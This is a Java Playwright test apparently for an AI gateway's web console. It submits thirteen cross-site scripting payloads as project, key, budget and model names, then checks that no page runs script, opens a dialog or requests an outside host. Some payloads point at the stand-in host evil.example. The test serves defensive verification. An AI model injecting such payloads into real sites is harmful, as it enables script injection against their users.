package ai.behest.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.gson.Gson;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Texts that would run if a page let them, as names, ids, models and reasons: in a real browser none does, and none even
 * tries. The server's own tests look at many more of them in the pages' text.
 */
final class HostileTextWalkTest {
    private static final List<String> TEXTS = List.of(
            "<script>window.pwned=1</script>",
            "\"><img src=x onerror=window.pwned=1>",
            "'><svg/onload=window.pwned=1>",
            "\" autofocus onfocus=window.pwned=1 x=\"",
            "javascript:window.pwned=1",
            "</title><script>window.pwned=1</script>",
            "</textarea><script>window.pwned=1</script>",
            "{{constructor.constructor('window.pwned=1')()}}",
            "${window.pwned=1}",
            "\" hx-get=\"//evil.example\" hx-trigger=\"load",
            "<iframe srcdoc=\"<script>parent.pwned=1</script>\">",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=0;url=//evil.example>");

    private final Gson gson = new Gson();

    private void send(Console console, Traffic traffic, String text) {
        Gateway gateway = console.gateway();
        gateway.manage("POST", "v1/projects", Map.of("name", text));
        gateway.manage("POST", "v1/projects/" + console.projectId() + "/keys", Map.of("name", text));
        gateway.manage(
                "POST",
                "v1/budgets",
                Map.of(
                        "scope",
                        Map.of("user", text),
                        "amount_usd",
                        "5",
                        "period",
                        "month",
                        "kind",
                        "soft",
                        "name",
                        text));
        gateway.manage("POST", "v1/kill-switches", Map.of("scope", Map.of("user", text + "!"), "reason", text));
        gateway.manage("POST", "v1/revocations", Map.of("uid", text + "?", "reason", text));
        HttpResponse<String> minted = traffic.post(
                gateway.demo("BEHEST_KEY"), "/v1/auth/mint", gson.toJson(Map.of("user_id", text, "session_id", text)));
        assertThat(minted.statusCode()).as(text).isEqualTo(200);
        String token = String.valueOf(gson.fromJson(minted.body(), Map.class).get("token"));
        for (String model : List.of("gpt-4o", "openai/" + text)) {
            traffic.post(
                    token,
                    "/v1/chat/completions",
                    gson.toJson(Map.of("model", model, "messages", List.of(Map.of("role", "user", "content", text)))));
        }
    }

    @Test
    void noTextRuns(@TempDir Path folder) {
        try (Console console = new Console(folder)) {
            BrowserContext owner = console.browser();
            console.becomeOwner(owner).close();
            console.gateway()
                    .manage(
                            "PUT",
                            "v1/projects/" + console.projectId() + "/settings?deploy=true",
                            Map.of("memory_enabled", true, "requests_per_minute", 100_000, "default_tier", "max"));
            Traffic traffic = new Traffic(console.gateway());
            TEXTS.forEach(text -> send(console, traffic, text));
            List<String> wrong = new ArrayList<>();
            owner.onPage(page -> {
                page.onDialog(dialog -> {
                    wrong.add("a dialog at " + page.url());
                    dialog.dismiss();
                });
                page.onRequest(request -> {
                    if (!request.url().startsWith(console.origin())) {
                        wrong.add(request.url() + " asked from " + page.url());
                    }
                });
                page.onConsoleMessage(message -> {
                    if (message.type().equals("error") || message.text().contains("Content Security Policy")) {
                        wrong.add(message.text() + " at " + page.url());
                    }
                });
            });
            Map<String, String> pages = Links.pages(console, owner);
            assertThat(pages.keySet()).contains("/calls/*", "/projects/*/users/*", "/projects/*/sessions/*", "/safety");
            Page page = owner.newPage();
            pages.values().forEach(path -> {
                page.navigate(console.origin() + path);
                // what is loaded behind the page stands too
                page.waitForLoadState(com.microsoft.playwright.options.LoadState.NETWORKIDLE);
                if (!Boolean.TRUE.equals(page.evaluate("window.pwned === undefined"))) {
                    wrong.add("something ran at " + path);
                }
            });
            assertThat(wrong).isEmpty();
        }
    }
}
